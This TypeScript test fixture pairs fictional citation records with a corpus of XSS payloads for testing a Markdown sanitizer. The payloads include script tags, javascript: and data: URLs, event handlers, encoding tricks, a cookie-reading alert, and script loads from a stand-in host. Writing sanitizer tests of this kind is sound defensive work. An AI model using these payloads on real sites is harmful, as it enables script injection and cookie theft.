import type { CslItem } from '../references'

/** Test references (fictional works; DOIs use Crossref's 10.5555 test prefix). Tests only. */
export const sampleReferences: CslItem[] = [
  {
    id: 'smith2020',
    type: 'article-journal',
    title: 'Alkaline phosphatase in multiple myeloma and bone metastases',
    author: [
      { family: 'Smith', given: 'John A' },
      { family: 'Doe', given: 'Jane' },
    ],
    'container-title': 'Journal of Example Haematology',
    issued: { 'date-parts': [[2020, 5]] },
    volume: '12',
    issue: '3',
    page: '100-110',
    DOI: '10.5555/jeh.2020.012',
    PMID: '10000001',
  },
  {
    id: 'lee2019',
    type: 'article-journal',
    title: 'Osteoblast exhaustion in myeloma bone disease',
    author: [{ family: 'Lee', given: 'Min' }],
    'container-title': 'Example Bone Reports',
    issued: { 'date-parts': [[2019]] },
    volume: '7',
    page: '45-52',
    DOI: '10.5555/ebr.2019.45',
  },
  {
    id: 'who2021',
    type: 'webpage',
    title: 'Guideline on example laboratory testing',
    author: [{ literal: 'World Health Organization' }],
    issued: { 'date-parts': [[2021]] },
    URL: 'https://www.who.int/example/guideline?lang=en&format=html',
  },
  {
    id: 'roe2018',
    type: 'book',
    title: 'Clinical Chemistry by Example',
    author: [{ family: 'Roe', given: 'Richard' }],
    publisher: 'Example Press',
    issued: { 'date-parts': [[2018]] },
  },
]

/**
 * Malicious Markdown, mostly after the OWASP XSS filter evasion cheat sheet, in Markdown's own
 * forms (links, images, autolinks, definitions) and as raw HTML. Each input must render without a
 * script-capable element, an event handler attribute or a dangerous URL, and each must be
 * reported (`html-dropped` or `url-unsafe`).
 */
export const XSS_CORPUS: readonly string[] = [
  // Raw HTML
  '<script>alert(1)</script>',
  'Text <script>alert(1)</script> text',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onerror="alert(1)">',
  '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<svg><script>alert(1)</script></svg>',
  '<BODY ONLOAD=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://xss.example/x.swf">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<base href="javascript:alert(1)//">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<!-- x --><script>alert(1)</script>',
  '<div>\n\n[ok](https://example.org)\n\n</div>',
  // Markdown links and images
  '[click](javascript:alert(1))',
  '[click]( JaVaScRiPt:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](jav&#x09;ascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](javascript://%0Aalert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](//xss.example/x)',
  '[click][evil]\n\n[evil]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '[![x](https://example.org/a.png)](javascript:alert(1))',
  '| a |\n|---|\n| [x](javascript:alert(1)) |',
  '# Heading <img src=x onerror=alert(1)>',
]

// Not HTML to a CommonMark parser (no valid tag): shown as literal text, so nothing is dropped.
export const XSS_LITERAL: readonly string[] = [
  '<svg/onload=alert(1)>',
  '<IMG SRC=`javascript:alert("XSS")`>',
]
